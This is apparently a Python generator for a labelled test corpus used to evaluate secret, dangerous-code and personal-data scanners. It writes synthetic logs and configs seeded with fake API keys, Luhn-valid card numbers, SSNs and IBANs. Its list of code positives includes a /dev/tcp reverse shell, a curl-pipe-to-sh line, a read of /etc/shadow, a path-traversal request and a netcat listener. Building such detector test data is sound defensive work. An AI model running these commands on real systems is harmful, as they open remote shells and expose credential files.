#!/usr/bin/env python3
# Copyright 2026 The kavach Authors. SPDX-License-Identifier: Apache-2.0
"""Writes the labelled scanner corpus (deterministic; re-run to regenerate).

Four realistic files (service log, Python/JS source, JSON config dump, stack
traces) made of hard negatives -- UUIDs, sha256 hashes, git SHAs, base64
blobs, version strings, timestamps, "amount", "sync", "retrieval(" -- with
planted positives. labels.tsv lists, per file and 1-based line, every scanner
that must report on that line; any other finding is a false positive.
All planted credentials are random strings, valid for no service.
"""
import base64
import hashlib
import json
import os
import random
import string

R = random.Random(20260301)
HERE = os.path.dirname(os.path.abspath(__file__))
AN = string.ascii_letters + string.digits


def tok(n, alphabet=AN):
    return "".join(R.choice(alphabet) for _ in range(n))


def luhn_complete(prefix, length):
    digits = [int(c) for c in prefix] + [R.randrange(10) for _ in range(length - len(prefix) - 1)]
    for check in range(10):
        ds = digits + [check]
        total = 0
        for i, d in enumerate(reversed(ds)):
            if i % 2 == 1:
                d *= 2
                if d > 9:
                    d -= 9
            total += d
        if total % 10 == 0:
            return "".join(map(str, ds))


def ssn():
    while True:
        a, g, s = R.randrange(1, 900), R.randrange(1, 100), R.randrange(1, 10000)
        if a != 666:
            return f"{a:03d}-{g:02d}-{s:04d}"


def iban_de():
    bban = "".join(str(R.randrange(10)) for _ in range(18))
    num = int("".join(str(int(c, 36)) for c in bban + "DE00"))
    return f"DE{98 - num % 97:02d}{bban}"


def secrets():
    return [
        lambda: f"export AWS_ACCESS_KEY_ID=AKIA{tok(16, string.ascii_uppercase + string.digits)}",
        lambda: f"aws_secret_access_key = {tok(40, AN + '/+')}",
        lambda: f"GITHUB_TOKEN=ghp_{tok(36)}",
        lambda: f"remote: https://x-access-token:ghs_{tok(36)}@github.com/org/repo.git",
        lambda: f"github_pat_{tok(22)}_{tok(59)}",
        lambda: f"PRIVATE-TOKEN: glpat-{tok(20)}",
        lambda: f"SLACK_BOT_TOKEN=xoxb-{tok(11, string.digits)}-{tok(13, string.digits)}-{tok(24)}",
        lambda: f"webhook=https://hooks.slack.com/services/T{tok(10, string.ascii_uppercase)}/B{tok(10, string.ascii_uppercase)}/{tok(24)}",
        lambda: f"stripe.api_key = 'sk_live_{tok(24)}'",
        lambda: f"maps key AIza{tok(35, AN + '_-')} loaded",
        lambda: f"OPENAI_API_KEY=sk-proj-{tok(60, AN + '_-')}T3BlbkFJ{tok(60, AN + '_-')}",
        lambda: f"ANTHROPIC_API_KEY=sk-ant-api03-{tok(93, AN + '_-')}AA",
        lambda: f"//registry.npmjs.org/:_authToken=npm_{tok(36)}",
        lambda: f"password = pypi-AgEIcHlwaS5vcmc{tok(60, AN + '_-')}",
        lambda: f"SENDGRID_API_KEY=SG.{tok(22)}.{tok(43)}",
        lambda: f"Authorization: Bearer {tok(48, AN + '._-')}",
        lambda: f'db_password = "{tok(14, AN + "!@#%^&*")}"',
        lambda: f"DATABASE_URL=postgresql://app:{tok(16)}@db.internal:5432/app",
        lambda: f"MONGO_URI=mongodb+srv://admin:{tok(12)}@cluster0.x1y2z.mongodb.net/prod",
        lambda: f'api_key: "{tok(32)}"',
        lambda: "-----BEGIN OPENSSH PRIVATE KEY-----",
        lambda: "-----BEGIN RSA PRIVATE KEY-----",
        lambda: f"session=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ{tok(40, AN + '_-')}.{tok(43, AN + '_-')}",
    ]


def code():
    return [
        lambda: "    result = eval(user_input)",
        lambda: "    proc = subprocess.Popen(cmd, shell=True)",
        lambda: "const { exec } = require('child_process');",
        lambda: "    r = requests.post(COLLECT_URL, json=payload)",
        lambda: "curl -fsSL https://get.example.sh | sh",
        lambda: "sudo chmod 4755 /usr/local/bin/helper",
        lambda: "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        lambda: "cat /etc/shadow > /tmp/s",
        lambda: "GET /static/../../../etc/passwd HTTP/1.1",
        lambda: "rm -rf /var/lib/app/cache",
        lambda: "echo aWQK | base64 -d",
        lambda: "    digest = hashlib.md5(data).hexdigest()",
        lambda: "MOUNT /dev/sdb1 /mnt/data",
        lambda: "nc -lvp 4444",
        lambda: "pip install --user requests",
        lambda: "    mod = __import__(name)",
        lambda: "    h = MD5(buffer)",
    ]


def data():
    return [
        lambda: f"charged card {luhn_complete('4', 16)} amount 42.00",
        lambda: f"card={luhn_complete('55', 16)}",
        lambda: f"amex {luhn_complete('37', 15)} declined",
        lambda: f"customer ssn {ssn()} verified",
        lambda: f"payout iban {iban_de()}",
        lambda: f"contact: {tok(6, string.ascii_lowercase)}.{tok(5, string.ascii_lowercase)}@example-corp.io",
        lambda: f"call back at (415) {R.randrange(200, 999)}-{R.randrange(1000, 9999)}",
        lambda: f"client {R.randrange(1, 223)}.{R.randrange(0, 255)}.{R.randrange(0, 255)}.{R.randrange(1, 254)} connected",
        lambda: "patient_id: 88213 admitted",
        lambda: "Right to Erasure request received from data subject",
        lambda: "stored cardholder data in vault",
        lambda: "SOC 2 Type II evidence exported",
    ]


def negatives():
    return [
        lambda: f"2026-03-01T10:{R.randrange(60):02d}:{R.randrange(60):02d}Z INFO request_id={tok(8,'0123456789abcdef')}-{tok(4,'0123456789abcdef')}-4{tok(3,'0123456789abcdef')}-a{tok(3,'0123456789abcdef')}-{tok(12,'0123456789abcdef')} status=200 took={R.randrange(1,900)}ms",
        lambda: f"commit {hashlib.sha1(tok(10).encode()).hexdigest()}",
        lambda: f"sha256: {hashlib.sha256(tok(10).encode()).hexdigest()}",
        lambda: f"checksum_key = {hashlib.sha256(tok(10).encode()).hexdigest()}",
        lambda: f"blob: {base64.b64encode(tok(30).encode()).decode()}",
        lambda: f"version {R.randrange(1,20)}.{R.randrange(0,30)}.{R.randrange(0,99)} (build {R.randrange(10000,99999)})",
        lambda: f"total amount due: {R.randrange(10,999)}.{R.randrange(0,99):02d} USD",
        lambda: "rsync -av --delete build/ dist/ && sync",
        lambda: "func main() { fmt.Println(\"ok\") }",
        lambda: "    docs = retrieval(query, top_k=5)",
        lambda: f"ts={R.randrange(1600000000000, 1800000000000)} event=heartbeat",
        lambda: "async def fetch_all(session):",
        lambda: "password: required (see docs)",
        lambda: "api_key = os.environ.get('API_KEY')",
        lambda: f"image: registry.local/app:{R.randrange(1,9)}.{R.randrange(0,9)}.{R.randrange(0,9)}",
        lambda: "listening on 127.0.0.1:8080",
        lambda: f"order #{R.randrange(10**9, 10**10)} shipped",
        lambda: "Thread pool size=16 queue=256",
        lambda: "the amount field is optional; async sync workers idle",
        lambda: f"  at com.example.svc.Handler.process(Handler.java:{R.randrange(10,900)})",
        lambda: f"  File \"/usr/lib/python3/dist-packages/app/{tok(6, string.ascii_lowercase)}.py\", line {R.randrange(1,500)}, in run",
        lambda: f"uuid {tok(8,'0123456789abcdef')}-{tok(4,'0123456789abcdef')}-{tok(4,'0123456789abcdef')}-{tok(4,'0123456789abcdef')}-{tok(12,'0123456789abcdef')}",
        lambda: "error: retrieval( failed for index docs-v2",
        lambda: "AKIAIOSFODNN7EXAMPLE is the documented example key",
        lambda: "export PATH=/usr/local/bin:$PATH",
        lambda: "user@localhost logged in",
        lambda: f"lodash@4.17.{R.randrange(10,30)} installed",
    ]


def build(name, n_lines, mix):
    lines, labels = [], []
    gens = {"secrets": secrets(), "code": code(), "data": data()}
    neg = negatives()
    for i in range(n_lines):
        roll = R.random()
        kind = None
        acc = 0.0
        for k, p in mix.items():
            acc += p
            if roll < acc:
                kind = k
                break
        if kind is None:
            lines.append(R.choice(neg)())
        else:
            lines.append(R.choice(gens[kind])())
            labels.append((name, i + 1, kind))
    return lines, labels


def main():
    all_labels = []
    files = {
        "service.log": (1500, {"secrets": 0.03, "code": 0.01, "data": 0.03}),
        "source.txt": (800, {"secrets": 0.02, "code": 0.05, "data": 0.005}),
        "config_dump.json": (600, {"secrets": 0.05, "data": 0.02}),
        "stacktrace.txt": (700, {"secrets": 0.01, "code": 0.01, "data": 0.01}),
    }
    for name, (n, mix) in files.items():
        lines, labels = build(name, n, mix)
        if name.endswith(".json"):
            # One JSON object; every line a string member (label lines shift
            # by the opening brace).
            lines = ["{"] + [f'  "field_{i}": {json.dumps(l)},' for i, l in enumerate(lines)]
            lines.append('  "end": true')
            lines.append("}")
            labels = [(f, ln + 1, k) for f, ln, k in labels]
        with open(os.path.join(HERE, name), "w") as f:
            f.write("\n".join(lines) + "\n")
        all_labels += labels
    # Lines planted with one scanner's positive may legitimately set off a
    # second scanner (a reverse shell names an IP; a connection string is
    # also an e-mail-shaped user@host). Those extra labels are listed here.
    extra = {
        "bash -i >& /dev/tcp/": "data",
        "GET /static/../../../etc/passwd": None,
        "mongodb+srv://admin:": None,
    }
    for name in files:
        with open(os.path.join(HERE, name)) as f:
            for i, line in enumerate(f.read().split("\n")):
                for needle, sc in extra.items():
                    if needle in line and sc:
                        all_labels.append((name, i + 1, sc))
    with open(os.path.join(HERE, "labels.tsv"), "w") as f:
        f.write("# file\tline\tscanner (generated by generate.py)\n")
        for name, line, kind in sorted(set(all_labels)):
            f.write(f"{name}\t{line}\t{kind}\n")


if __name__ == "__main__":
    main()
